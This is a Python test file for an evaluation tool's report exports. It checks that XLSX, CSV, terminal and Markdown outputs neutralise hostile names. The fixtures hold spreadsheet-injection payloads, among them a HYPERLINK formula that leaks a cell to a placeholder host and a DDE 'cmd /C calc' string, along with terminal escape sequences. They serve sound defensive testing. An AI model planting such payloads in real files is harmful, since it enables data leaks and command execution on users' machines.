"""Reports stay inert whatever the ledgers hold: no live formula in a spreadsheet, no control
character reaching a terminal or a sheet raw, no Markdown table broken by a `|` or a line break."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook
from test_reports import assess

from evalkit.testing import run_cli, write_dataset

HYPERLINK = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
NAMES = {
    "D1": HYPERLINK,
    "D2": "=cmd|' /C calc'!A0",
}
CADRE_NAMES = {"K1": "+SUM(1,2)", "K2": "-2+3"}
BRANCH_NAMES = {"B1": "王\x1b[31m红\x07", "J1": "a|b\nc"}


@pytest.fixture
def hostile(tmp_path, small):
    for row in small["departments"]:
        row["name"] = NAMES[row["id"]]
    for table, names in (("cadres", CADRE_NAMES), ("organizations", BRANCH_NAMES)):
        for row in small[table]:
            row["name"] = names.get(row["id"], row["name"])
    return write_dataset(tmp_path / "data", small)


def test_xlsx_stores_formula_like_names_as_text(hostile, tmp_path):
    target = tmp_path / "scores.xlsx"
    assess(hostile, "--format", "xlsx", "--output", str(target))
    sheet = load_workbook(target)["Departments"]
    names = {row[1].value: row[2] for row in sheet.iter_rows(min_row=2) if row[1].value in NAMES}
    assert {subject: cell.value for subject, cell in names.items()} == NAMES
    assert {cell.data_type for cell in names.values()} == {"s"}  # text, not a formula ("f")
    assert all(cell.quotePrefix for cell in names.values())  # and kept text when edited in Excel
    with zipfile.ZipFile(target) as archive:
        sheets = "".join(archive.read(name).decode() for name in archive.namelist() if "worksheets" in name)
    assert "<f>" not in sheets  # no formula anywhere in the workbook
    branches = [row[1].value for row in load_workbook(target)["Branches"].iter_rows(min_row=2)]
    assert "王\\x1b[31m红\\x07" in branches  # control characters written out (openpyxl refuses them raw)


def test_csv_prefixes_formula_like_texts_but_not_numbers(hostile, tmp_path):
    target = tmp_path / "scores.zip"
    assess(hostile, "--format", "csv", "--output", str(target))
    with zipfile.ZipFile(target) as archive:
        departments = list(csv.reader(io.StringIO(archive.read("departments.csv").decode("utf-8-sig"))))
        cadres = list(csv.reader(io.StringIO(archive.read("cadres.csv").decode("utf-8-sig"))))
    names = {row[1]: row[2] for row in departments[1:]}
    assert names == {"D1": "'" + HYPERLINK, "D2": "'=cmd|' /C calc'!A0"}
    assert {row[1]: row[2] for row in cadres[1:]} == {"K1": "'+SUM(1,2)", "K2": "'-2+3"}
    deductions = [row[departments[0].index("deduction")] for row in departments[1:]]
    assert all(not text.startswith("'") for text in deductions)  # numbers stay numbers


def test_terminal_output_shows_control_characters_written_out(hostile):
    text = assess(hostile).stdout
    assert "\x1b" not in text and "\x07" not in text
    assert "王\\x1b[31m红\\x07" in text


def test_markdown_tables_escape_pipes_and_line_breaks(hostile):
    markdown = assess(hostile, "--format", "markdown").stdout
    lines = markdown.splitlines()
    at = next(n for n, line in enumerate(lines) if "a\\|b<br>c" in line)
    row, header = lines[at], lines[max(n for n in range(at) if lines[n].startswith("|-")) - 1]
    unescaped = lambda line: line.replace("\\|", "").count("|")  # noqa: E731
    assert unescaped(row) == unescaped(header)  # the name's | does not make a column


def test_an_error_line_never_carries_a_raw_control_character(tmp_path, small):
    small["visits"][0]["date"] = "2024-13-01\x1b]0;pwned\x07"
    result = run_cli(["validate", str(write_dataset(tmp_path / "data", small))])
    assert result.exit_code == 2 and "\x1b" not in result.stderr and "\\x1b]0;pwned\\x07" in result.stderr
